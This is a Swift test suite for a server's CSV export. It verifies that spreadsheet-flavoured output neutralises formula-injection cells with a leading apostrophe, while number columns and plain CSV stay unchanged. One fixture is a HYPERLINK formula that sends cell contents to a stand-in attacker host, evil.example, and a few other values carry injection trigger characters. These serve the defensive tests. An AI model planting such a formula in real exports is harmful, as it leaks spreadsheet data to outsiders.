import DXCore
@testable import DXServer
import Foundation
import Testing

// Issue 8 item 16: in the spreadsheet flavour (`?bom=1`) a text cell that a spreadsheet would
// run as a formula gets a leading `'`; number columns are left alone; plain CSV is byte-exact.

private let formulaTitle = #"=HYPERLINK("http://evil.example/?"&A1,"x")"#

@Suite("CSV for spreadsheets: formula injection")
struct CSVInjectionTests {
    private func withFormulaProject<T>(_ body: (InProcessAPI) throws -> T) throws -> T {
        try withAPIService { api in
            let headers = [("Authorization", "Bearer \(try api.adminToken())"), ("Content-Type", "application/json")]
            let project = try JSONSerialization.data(withJSONObject: [
                "measure_code": "1-1", "title": formulaTitle, "department": "@SUM(1+1)", "description": "\t-2+3",
                "start_fiscal_year": 2023, "end_fiscal_year": 2024, "kpi": ["name": "+cmd", "unit": "=件", "target": -5, "actual": -1.5],
            ] as [String: Any])
            #expect(try api.request("POST", "/api/v1/projects", headers: headers, body: Array(project)).status == 201)
            return try body(api)
        }
    }

    @Test("?bom=1 neutralises the issue's HYPERLINK title and every formula-looking text cell; negative numbers stay numbers")
    func spreadsheetFlavourNeutralisesFormulaCells() throws {
        try withFormulaProject { api in
            let response = try api.get("/api/v1/projects.csv?bom=1")
            #expect(response.status == 200)
            #expect(response.body.starts(with: [0xEF, 0xBB, 0xBF]))
            let table = try CSVReader.read(response.body)
            let header = try #require(table.first?.fields)
            let row = try #require(table.dropFirst().first?.fields)
            func cell(_ name: String) -> String? { header.firstIndex(of: name).map { row[$0] } }
            #expect(cell("title") == "'" + formulaTitle)
            #expect(cell("department") == "'@SUM(1+1)")
            #expect(cell("description") == "'\t-2+3")
            #expect(cell("kpi_name") == "'+cmd")
            #expect(cell("kpi_unit") == "'=件")
            #expect(cell("kpi_target") == "-5", "a number column is not quoted")
            #expect(cell("kpi_actual") == "-1.5")
            #expect(response.text.contains(",-5,-1.5,"), "written bare, not as '-5")
        }
    }

    @Test("plain CSV stays byte-exact: the stored text, no prefix")
    func plainCSVIsByteExact() throws {
        try withFormulaProject { api in
            let response = try api.get("/api/v1/projects.csv")
            #expect(!response.body.starts(with: [0xEF, 0xBB, 0xBF]))
            let table = try CSVReader.read(response.body)
            let header = try #require(table.first?.fields)
            let row = try #require(table.dropFirst().first?.fields)
            #expect(row[try #require(header.firstIndex(of: "title"))] == formulaTitle)
            #expect(row[try #require(header.firstIndex(of: "description"))] == "\t-2+3")
        }
    }

    @Test("the writer: each trigger character is neutralised in the spreadsheet flavour only, number columns never",
          arguments: ["=1", "+1", "-1", "@a", "\tx", "\rx"])
    func writerNeutralisesEachTrigger(cell: String) {
        let spreadsheet = CSVWriter.write(header: ["text", "number"], rows: [[cell, cell]], bom: true, numberColumns: [1])
        let plain = CSVWriter.write(header: ["text", "number"], rows: [[cell, cell]], bom: false, numberColumns: [1])
        let records = (try? CSVReader.read(spreadsheet)) ?? []
        #expect(records.last?.fields == ["'" + cell, cell])
        #expect((try? CSVReader.read(plain))?.last?.fields == [cell, cell])
    }

    @Test("safe text is untouched in both flavours", arguments: ["デジタル", "1-1", "a=b", " =1", "'quoted"])
    func safeTextIsUntouched(cell: String) {
        #expect(CSVWriter.neutralized(cell) == cell)
    }

    @Test("every number column a row type declares is one of its columns")
    func declaredNumberColumnsExist() {
        func check<T: CSVRepresentable>(_: T.Type) {
            #expect(T.csvNumberColumns.isSubset(of: Set(T.csvHeader)), "\(T.self)")
        }
        check(Concept.self)
        check(Policy.self)
        check(Measure.self)
        check(Principle.self)
        check(Project.self)
        check(ProjectHistoryEntry.self)
        check(Survey.self)
        check(ProfileEntry.self)
        check(SurveyOptionRow.self)
    }

    @Test("survey numbers stay numbers in the spreadsheet flavour")
    func surveyNumbersAreNotPrefixed() throws {
        try withAPIService { api in
            let response = try api.get("/api/v1/surveys/15/questions.csv?bom=1")
            #expect(response.status == 200)
            #expect(!response.text.contains(",'"), "no number cell prefixed")
        }
    }
}
